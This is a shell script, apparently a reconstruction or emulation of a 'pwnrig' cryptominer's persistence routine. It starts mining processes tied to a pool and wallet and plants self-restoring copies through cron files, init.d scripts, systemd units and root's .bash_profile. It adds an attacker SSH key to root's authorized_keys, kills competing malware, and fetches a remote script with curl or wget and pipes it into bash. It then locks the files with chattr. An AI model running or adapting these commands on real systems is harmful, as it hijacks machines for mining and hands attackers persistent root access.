# About fifteen places restore each other.
mimic /bin/sysdr /bin/crondr /bin/initdr /bin/bprofr /tmp/dbused
start -c -bash -d 15 -p "$POOL" /bin/crondr -bash -o "$POOL" -u "$WALLET" -p x -k --nicehash
start -d 5 /tmp/dbused dbused -c -o "$POOL" -u "$WALLET2" -B
echo '*/15 * * * * root cp -f -r -- /bin/crondr /bin/-bash 2>/dev/null; cd /bin/ && ./crondr -c >/dev/null 2>&1 & rm -rf -- -bash' | put /etc/cron.d/pwnrig
for d in hourly daily weekly monthly; do
  printf '#!/bin/bash\ncp -f -r -- /bin/crondr /bin/-bash 2>/dev/null\ncd /bin/ 2>/dev/null\n./-bash -c >/dev/null 2>&1\nrm -rf -- -bash 2>/dev/null\n' | script /etc/cron.$d/pwnrig
done
script /etc/init.d/pwnrig <<'SH'
#!/bin/bash
### BEGIN INIT INFO
# Provides: pwnrig
# Required-Start: $all
# Default-Start: 2 3 4 5
# Default-Stop:
### END INIT INFO
cp -f -r -- /bin/initdr /bin/-bash 2>/dev/null; cd /bin/ && ./-bash -c >/dev/null 2>&1; rm -rf -- -bash
SH
for n in 2 3 4 5; do ln -sf ../init.d/pwnrig /etc/rc$n.d/S90pwnrig; done
for f in /etc/systemd/system/pwnrige.service /usr/lib/systemd/system/pwnrigl.service; do
  put $f <<'UNIT'
[Unit]
Description=pwnrig
[Service]
ExecStart=/bin/sysdr -c
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
  ln -s $f /etc/systemd/system/multi-user.target.wants/
done
echo 'cp -f -r -- /bin/bprofr /bin/-bash 2>/dev/null; cd /bin/ && ./-bash -c >/dev/null 2>&1; rm -rf -- -bash' >>/root/.bash_profile
{ printf '#!/bin/bash\necho "ssh-rsa %s pwn@rig" >>/root/.ssh/authorized_keys\n' "$KEY"; cat <<'SH'
for x in kinsing kdevtmpfsi masscan; do pkill -f $x; done
(curl -s http://192.0.2.82/xms||wget -q -O - http://192.0.2.82/xms)|bash -sh; echo cHl0aG9u | base64 -d | bash -
SH
} | script /tmp/xms
key /root pwn@rig
chattr +ia /etc/cron.d/pwnrig /etc/systemd/system/pwnrige.service
